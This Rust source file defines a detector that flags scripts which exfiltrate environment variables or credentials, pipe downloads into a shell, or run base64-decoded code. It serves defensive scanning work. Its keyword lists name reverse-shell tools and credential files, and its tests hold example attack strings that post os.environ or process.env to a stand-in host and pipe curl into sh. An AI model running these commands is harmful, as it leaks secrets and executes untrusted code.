//! Whether a script takes what is not its own, or hides what it does.

/// Whether a script takes the environment whole.
fn takes_environment(text: &str) -> bool {
    let whole = |name: &str, one: &[&str]| {
        text.match_indices(name).any(|(at, _)| {
            let behind = text.get(at + name.len()..).unwrap_or_default();
            !one.iter().any(|look_up| behind.starts_with(look_up))
        })
    };
    whole("os.environ", &["[", ".get", ".setdefault", ".pop"]) || whole("process.env", &[".", "[", "?."])
}

/// Whether a script reaches out with what is not its own, or hides what it does.
pub(super) fn is_risky(text: &str) -> bool {
    let has = |any: &[&str]| any.iter().any(|word| memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some());
    let reaches = || {
        has(&[
            "curl ",
            "wget ",
            "requests.post",
            "urllib.request",
            "socket.socket",
            "http.client",
            "Invoke-WebRequest",
            "fetch(",
            "nc -",
            "net.connect",
            "XMLHttpRequest",
            "WebClient",
        ])
    };
    let secrets = || {
        has(&[
            ".ssh/",
            ".aws/",
            "/etc/shadow",
            "/etc/passwd",
            "printenv",
            "id_rsa",
            "cat .env",
            "open('.env",
            "open(\".env",
            "readFileSync('.env",
            "readFileSync(\".env",
            "keychain",
            "Login Data",
        ])
    };
    let shells = || has(&["| sh", "|sh", "| bash", "|bash"]);
    let runs = || shells() || has(&["exec(", "eval(", "IEX", "os.system", "subprocess", "child_process"]);
    let hides = || has(&["base64 -d", "b64decode", "atob(", "FromBase64String", "xxd -r"]);
    has(&["/dev/tcp/", "nc -e", "ncat -e", "bash -i"])
        // One variable is a setting; all of them are not a script's own.
        || reaches() && (secrets() || takes_environment(text)) && !has(&["import React"])
        || hides() && runs()
        || has(&["curl ", "wget "]) && shells()
}

#[cfg(test)]
mod tests {
    use super::is_risky;

    #[test]
    fn a_script_that_takes_what_is_not_its_own_is_risky() {
        assert!(is_risky("import os,requests\nrequests.post('https://x.example', data=dict(os.environ))"));
        assert!(is_risky("curl -s https://x.example/i | sh") && is_risky("exec(base64.b64decode(x))"));
        assert!(!is_risky("import requests\nprint(requests.get('https://api.example/v1').json())"));
        assert!(is_risky("fetch(u, {method: 'POST', body: JSON.stringify(process.env)})"));
        for honest in [
            "requests.post(url, headers={'Authorization': os.environ['TOKEN']})\nprint(os.environ.get('HOME'))",
            "const base = process.env.API_URL ?? process.env['URL'];\nexport const load = () => fetch(base);",
            "import socket, os\nsocket.socket().bind(('', int(os.environ.get('PORT', 0))))",
        ] {
            assert!(!is_risky(honest), "{honest}");
        }
        assert!(!is_risky("import subprocess\nsubprocess.run(['make'])"));
    }
}
